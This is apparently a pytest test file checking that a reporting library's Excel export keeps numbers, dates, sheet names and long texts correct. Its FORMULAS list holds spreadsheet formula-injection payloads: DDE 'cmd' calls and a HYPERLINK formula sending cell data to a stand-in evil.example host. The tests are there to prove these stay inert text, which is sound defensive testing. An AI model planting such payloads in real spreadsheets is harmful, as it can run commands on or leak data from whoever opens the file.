"""Workbooks: read back by another library, and opened by LibreOffice."""

from __future__ import annotations

import html
import io
import os
import re
import subprocess
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from portalops.model.message import msg, verbatim
from portalops.reports import formats
from portalops.reports.document import (
    Bars,
    Block,
    ByteSize,
    Cell,
    Document,
    Grid,
    GridMark,
    KeyValues,
    Paragraph,
    Status,
    TableBlock,
    Tone,
)
from portalops.reports.formats.xlsx import MAX_LETTERS, XlsxPaperFormat, sheet_name
from tests.programs import need
from tests.reports.sample import HOSTILE, VIETNAMESE, document

ZONE = "Asia/Ho_Chi_Minh"
FORMULAS = (
    "=1+1",
    '=cmd|" /C calc"!A0',
    "+84 258 3822 229",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "{=1+1}",
    "http://evil.example/",
    "internal:Sheet2!A1",
)


def book(*blocks: Block, language: str = "en", form: XlsxPaperFormat | None = None) -> Workbook:
    made = Document(msg("Report"), blocks, zone=ZONE)
    return load_workbook(io.BytesIO((form or XlsxPaperFormat()).render(made, language=language)), rich_text=False)


def table(*rows: Sequence[Cell], headers: int = 0) -> TableBlock:
    count = headers or len(rows[0])
    return TableBlock(msg("Updates by unit"), [verbatim(f"head {number}") for number in range(count)], rows)


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def test_numbers_dates_and_moments_are_real_ones_of_the_readers_zone() -> None:
    moment = datetime(2026, 8, 31, 17, 30, 15, tzinfo=UTC)
    sheet = book(table((1234, date(2026, 9, 2), moment, ByteSize(2_800_000_000), None)), language="vi").worksheets[1]
    number, day, at, size, nothing = (cell for cell in sheet[4])
    assert (number.value, number.data_type) == (1234, "n")
    assert (day.value, day.number_format) == (datetime(2026, 9, 2), "dd/mm/yyyy")
    assert (at.value, at.number_format) == (datetime(2026, 9, 1, 0, 30, 15), "dd/mm/yyyy hh:mm")
    assert (size.value, size.number_format) == (2_800_000_000, '#,##0" B"')
    assert nothing.value is None


def test_what_a_spreadsheet_cannot_hold_as_a_number_or_date_is_text() -> None:
    sheet = book(table((10**15 + 1, date(1899, 12, 31)))).worksheets[1]
    assert [cell.value for cell in sheet[4]] == ["1,000,000,000,000,001", "31 Dec 1899"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_or_a_link(text: str) -> None:
    pair = KeyValues([(verbatim(text), text)])
    made = Document(verbatim(text), (Paragraph(verbatim(text)), pair, table((text, verbatim(text)))))
    data = formats.load("xlsx").render(made, language="en")
    opened = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in opened for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    shown = text.replace("\t", "\\t").replace("\r", "\\r")
    assert sum(cell.value == shown for cell in cells) >= 5
    for name, xml in parts(data).items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml
            assert "evil.example" not in xml
        assert "evil.example" not in xml or name == "xl/sharedStrings.xml" or name.startswith("docProps/"), name


def test_a_text_that_looks_like_a_formula_stays_a_text_when_its_cell_is_edited() -> None:
    sheet = book(table(("=1+1", "1+1"))).worksheets[1]
    assert sheet["A4"].quotePrefix
    assert not sheet["B4"].quotePrefix


def test_a_header_is_frozen_and_has_filters() -> None:
    sheet = book(table((1, 2), (3, 4))).worksheets[1]
    assert sheet["A1"].value == "Updates by unit"
    assert [cell.value for cell in sheet[3]] == ["head 0", "head 1"]
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:B5"
    assert sheet.print_title_rows == "$3:$3"


def test_a_state_is_its_word_and_no_mere_colour() -> None:
    rows = [(Status(msg("unmet"), Tone.BAD),), (Status(msg("insufficient evidence"), Tone.UNSURE),)]
    sheet = book(table(*rows), language="vi").worksheets[1]
    assert [sheet["A4"].value, sheet["A5"].value] == ["không đạt", "không đủ căn cứ"]
    assert sheet["A4"].font.b
    assert sheet["A5"].font.i


def test_a_grid_has_its_days_as_dates_and_its_signs_legend_and_shaded_days_in_words() -> None:
    days = [date(2026, 9, 1), date(2026, 9, 2)]
    signs = (GridMark("✓", Tone.GOOD, msg("met")), None)
    legend = ((signs[0], msg("the week, or the portal's day, is met")),)
    grid = Grid(
        msg("Units and days"), [*days, verbatim("W36")], [("Sở Y tế", (*signs, signs[0]))], legend, {1: msg("met")}
    )
    sheet = book(grid).worksheets[1]
    assert [cell.value for cell in sheet[3]] == ["", datetime(2026, 9, 1), datetime(2026, 9, 2), "W36"]
    assert [cell.value for cell in sheet[4]] == ["Sở Y tế", "✓", None, "✓"]
    assert sheet["C4"].fill.fgColor.rgb == "FFD9DDE2"
    assert sheet.freeze_panes == "B4"
    said = [cell.value for cell in sheet["A"][4:]]
    assert said == [None, "✓  the week, or the portal's day, is met", "2 Sep 2026: met"]


def test_counts_are_a_table_with_a_column_a_word() -> None:
    bars = Bars(msg("Duties"), [(msg("All"), [(Tone.GOOD, msg("met"), 7), (Tone.BAD, msg("unmet"), 0)])])
    sheet = book(bars).worksheets[1]
    assert [cell.value for cell in sheet[3]] == ["What", "met", "unmet"]
    assert [cell.value for cell in sheet[4]] == ["All", 7, 0]


def test_a_table_without_rows_is_told_to_be_empty_and_has_no_sheet() -> None:
    opened = book(TableBlock(msg("Updates by unit"), (msg("Unit"),), ()))
    assert len(opened.worksheets) == 1
    assert "Updates by unit: nothing to show" in [cell.value for cell in opened.worksheets[0]["A"]]


@pytest.mark.parametrize(
    ("caption", "name"),
    [
        ("Báo cáo", "7 Báo cáo"),
        ("[a]:b*c?d/e\\f", "7 a b c d e f"),
        ("it's 'so'", "7 it s so"),
        ("x" * 40, "7 " + "x" * 29),
        ("𠀀" * 20, "7 " + "𠀀" * 14),
        ("", "7"),
        ("History", "7 History"),
        ("Tin, bài không được tính trong tuần này", "7 Tin, bài không được tính"),
    ],
)
def test_a_sheets_name_is_one_that_every_spreadsheet_takes(caption: str, name: str) -> None:
    assert sheet_name(7, caption) == name


def test_sheets_of_one_caption_keep_apart_and_are_linked() -> None:
    opened = book(table((1,)), table((2,)))
    assert opened.sheetnames == ["1 Content", "2 Updates by unit", "3 Updates by unit"]
    links = [cell.hyperlink.location for cell in opened.worksheets[0]["A"] if cell.hyperlink]
    assert links == ["'2 Updates by unit'!A1", "'3 Updates by unit'!A1"]


def test_a_text_too_long_for_a_cell_is_cut_and_the_sheet_says_so() -> None:
    sheet = book(table(("ữ" * (MAX_LETTERS + 1),), ("𠀀" * MAX_LETTERS,), ("ữ" * MAX_LETTERS,))).worksheets[1]
    first, second, third = (sheet[f"A{row}"].value for row in (4, 5, 6))
    assert first == "ữ" * (MAX_LETTERS - 1) + "…"
    assert second == "𠀀" * ((MAX_LETTERS - 1) // 2) + "…"
    assert third == "ữ" * MAX_LETTERS
    assert sheet["A7"].value == (
        "2 texts are too long for a cell and were cut; the formats html and json hold them in full"
    )


def test_more_rows_than_a_sheet_takes_are_counted_on_it() -> None:
    sheet = book(table(*((number,) for number in range(100))), form=XlsxPaperFormat(max_rows=20)).worksheets[1]
    values = [cell.value for cell in sheet["A"]]
    assert len(values) <= 20
    assert values[3:18] == list(range(15))
    assert values[18] == "85 more did not fit into a sheet; the formats html and json hold them"


def test_more_sentences_than_a_sheet_takes_are_counted_on_it() -> None:
    sheet = book(
        *(Paragraph(verbatim(f"line {number}")) for number in range(50)), form=XlsxPaperFormat(max_rows=20)
    ).worksheets[0]
    values = [cell.value for cell in sheet["A"]]
    assert len(values) <= 20
    shown = [value for value in values if value and value.startswith("line")]
    assert values[18] == f"{53 - 18} more did not fit into a sheet; the formats html and json hold them"
    assert len(shown) == 17


@pytest.mark.heavy
@pytest.mark.parametrize("language", ["vi", "en"])
def test_the_compliance_report_has_a_sheet_for_each_of_its_tables(language: str) -> None:
    made = document()
    data = formats.load("xlsx").render(made, language=language)
    opened = load_workbook(io.BytesIO(data))
    shown = [block for block in made.blocks if isinstance(block, TableBlock | Grid | Bars) and block.rows]
    assert len(opened.worksheets) == 1 + len(shown)
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in opened.sheetnames)
    strings = parts(data)["xl/sharedStrings.xml"]
    assert VIETNAMESE in strings
    assert "<script>" not in strings
    assert html.escape(HOSTILE.split()[0], quote=False) in strings


@pytest.mark.heavy
def test_libreoffice_opens_a_workbook_and_reads_the_same_from_it(tmp_path: Path) -> None:
    need("soffice")
    rows = (("=1+1", 1234, date(2026, 9, 2)), (VIETNAMESE, 5, None))
    made = Document(msg("Report"), (table(*rows),), zone=ZONE)
    (tmp_path / "made.xlsx").write_bytes(formats.load("xlsx").render(made, language="vi"))
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/home", "--headless", "--convert-to", every_sheet]
    subprocess.run(
        [*command, "--outdir", str(tmp_path), "made.xlsx"],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "LC_ALL": "C.UTF-8"},
    )
    (found,) = tmp_path.glob("made-2*.csv")
    lines = found.read_text(encoding="utf-8").splitlines()
    assert lines[3:5] == ["=1+1,1234,09/02/2026", f"{VIETNAMESE},5,"]
